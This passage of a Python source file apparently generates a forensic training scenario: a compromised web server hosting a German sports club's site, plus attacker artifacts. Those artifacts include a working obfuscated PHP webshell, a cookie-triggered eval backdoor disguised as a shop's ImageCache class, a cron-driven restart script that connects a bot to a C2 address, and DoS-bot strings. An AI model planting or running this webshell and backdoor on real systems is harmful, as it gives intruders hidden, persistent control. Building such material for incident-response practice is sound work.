        "<h2>Willkommen</h2><p>Fu\u00dfball, Turnen, Tischtennis und Wandern f\u00fcr alle Generationen.</p>",
    ),
    "verein.html": ("Verein", "<h2>Der Verein</h2><p>Gegr\u00fcndet 1898, heute 640 Mitglieder.</p>"),
    "termine.html": (
        "Termine",
        "<h2>Termine</h2><ul><li>28.11. Jahreshauptversammlung</li><li>12.12. Weihnachtsfeier</li></ul>",
    ),
    "kontakt.html": ("Kontakt", "<h2>Kontakt</h2><p>Gesch\u00e4ftsstelle: Sportplatzweg 1</p>"),
    "impressum.html": ("Impressum", "<h2>Impressum</h2><p>Vertreten durch den Vorstand.</p>"),
}

TSV_CSS = b"body{font-family:Verdana,sans-serif;background:#f4f7f2;margin:0}header{background:#0a5c2e;color:#fff;padding:1em}\n"

DEFAULT_INDEX = b"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml">
  <head>
    <meta http-equiv="Content-Type" content="text/html; charset=UTF-8" />
    <title>Apache2 Debian Default Page: It works</title>
  </head>
  <body>
    <div class="main_page">
      <div class="page_header floating_element">
        <span class="floating_element">Apache2 Debian Default Page</span>
      </div>
      <div class="content_section floating_element">
        <div class="section_header section_header_red">It works!</div>
        <p>This is the default welcome page used to test the correct operation of the Apache2
        server after installation on Debian systems.</p>
      </div>
    </div>
  </body>
</html>
"""


# --------------------------------------------------------------------------- the attacker's files

#: Posted through admin/upload.php. ``cmd`` runs a shell command through a
#: name assembled at run time (dodges a grep for ``system(``); ``x`` evaluates
#: base64-encoded PHP, which the attacker used to write files.
WEBSHELL = b"""<?php
@error_reporting(0); @set_time_limit(0);
$f = 'sy' . 'st' . 'em';
if (isset($_REQUEST['cmd'])) { echo '<pre>'; @$f($_REQUEST['cmd']); echo '</pre>'; exit; }
if (isset($_POST['x'])) { @eval(base64_decode($_POST['x'])); exit; }
?>
"""

#: The second way back in, written through the webshell among the shop's own
#: classes and then timestomped. Keyed by a cookie, so its use leaves only a
#: plain GET in the access log.
BACKDOOR = b"""<?php
/**
 * Bergblick Outdoor Shop
 * (c) 2025 example-client GmbH
 *
 * ImageCache - caches resized product images
 */
class ImageCache
{
    const TTL = 86400;

    public static function path(int $id, int $w): string
    {
        return IMAGE_DIR . '/cache/' . $id . '_' . $w . '.jpg';
    }
}

if (!empty($_COOKIE['__utmz_c'])) {
    $d = str_rot13(strrev('rqbprq_46rfno'));
    @eval($d(strrev($_COOKIE['__utmz_c'])));
}
"""

#: The restart script the crontab calls.
RUN_SH = b"""#!/bin/sh
# keep worker alive
cd /tmp/.X11-cache || exit 0
pgrep -f kworkerd >/dev/null 2>&1 || nohup ./kworkerd -c 198.51.100.23:6667 -n web01 >/dev/null 2>&1 &
"""

CRON_LINE = "*/5 * * * * /tmp/.X11-cache/run.sh >/dev/null 2>&1"


def crontab_file(installed: str, lines: tuple[str, ...]) -> bytes:
    """A user crontab as ``crontab(1)`` of Debian's cron writes it to the spool."""
    return (
        "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n"
        f"# (- installed on {installed})\n"
        "# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)\n"
        + "".join(line + "\n" for line in lines)
    ).encode()


#: Strings of the fake DoS bot: enough for a strings/YARA search to recognise
#: a flooder with a C2 address, and no code at all.
DOS_TOOL_STRINGS = (
    "[kworker/0:2H]",
    "usage: %s -c host:port [-n name]",
    "198.51.100.23",
    "NICK %s\r\nUSER %s 0 * :%s\r\n",
    "JOIN #w0rk\r\n",
    "PRIVMSG %s :flood %s %d %d\r\n",
    "udpflood",
    "synflood",
    "ackflood",
    "httpflood",
    "udp flood %s:%d for %d seconds",
    "syn flood %s:%d for %d seconds",
    "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\n\r\n",
    "/proc/self/exe",
    "/proc/net/route",
    "/dev/null",
    "killall -9 %s",
    "GCC: (GNU) 4.8.5",
)
